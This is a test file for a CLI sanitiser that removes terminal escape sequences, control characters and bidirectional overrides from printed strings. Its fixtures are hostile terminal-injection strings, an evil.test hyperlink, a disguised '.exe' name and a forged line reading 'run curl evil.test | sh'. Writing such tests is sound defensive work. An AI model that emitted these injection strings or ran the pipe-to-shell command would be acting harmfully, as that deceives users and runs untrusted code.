import { describe, expect, it } from "@effect/vitest"
import * as Printable from "../src/Printable.js"
import { controlCharacters } from "./harness.js"

// What a hostile server (or file) could put into a string the CLI prints.
const hostile: ReadonlyArray<readonly [string, string, string]> = [
  ["terminal title (OSC 0, BEL)", "a\u001b]0;pwned\u0007b", "ab"],
  ["hyperlink (OSC 8, ST)", "\u001b]8;;https://evil.test\u001b\\click\u001b]8;;\u001b\\", "click"],
  ["clear screen and home (CSI)", "\u001b[2J\u001b[Hcode", "code"],
  ["colour and cursor up", "\u001b[1;31mred\u001b[0m\u001b[3A", "red"],
  ["8-bit CSI", "x\u009b31my", "xy"],
  ["8-bit OSC with ST", "x\u009d0;t\u009cy", "xy"],
  ["device control string", "x\u001bPq#0;2;0;0;0\u001b\\y", "xy"],
  ["unterminated OSC", "ok\u001b]0;no end", "ok"],
  ["single-character escape (reset)", "x\u001bcy", "xy"],
  ["lone ESC at the end", "x\u001b", "x"],
  ["carriage return overwriting the line", "safe\rEVIL", "safeEVIL"],
  ["backspaces", "abc\b\b\bxyz", "abcxyz"],
  ["NUL, BEL, DEL", "a\u0000b\u0007c\u007fd", "abcd"],
  ["right-to-left override", "https://a.test/\u202egpj.exe", "https://a.test/gpj.exe"],
  ["isolates and marks", "\u2066a\u2069\u200eb\u200f", "ab"]
]

describe("Printable", () => {
  it("text removes escape sequences and control characters", () => {
    for (const [what, input, expected] of hostile) {
      expect([what, Printable.text(input)]).toEqual([what, expected])
    }
  })

  it("text keeps tabs, line feeds and ordinary Unicode", () => {
    expect(Printable.text('{\n  "a": "é ✔ 日本"\n}\tz')).toBe('{\n  "a": "é ✔ 日本"\n}\tz')
  })

  it("line also folds line breaks, so a value cannot forge a line of its own", () => {
    expect(Printable.line("denied\nhint: run curl evil.test | sh")).toBe("denied hint: run curl evil.test | sh")
    expect(Printable.line("a\r\nb\u2028c\u2029d\te")).toBe("a b c d e")
    for (const [, input, expected] of hostile) expect(Printable.line(input)).toBe(expected)
  })

  it("json escapes what a terminal would act on and stays the same data", () => {
    const value = { merchant: "\u001b]0;x\u0007DEMO\u009b2J", scope: "crm\u202e\u2028" }
    const printed = Printable.json(value)
    expect(controlCharacters(printed)).toEqual([])
    expect(printed).not.toContain("\u2028")
    expect(JSON.parse(printed)).toEqual(value)
    expect(Printable.text(printed)).toBe(printed)
  })
})
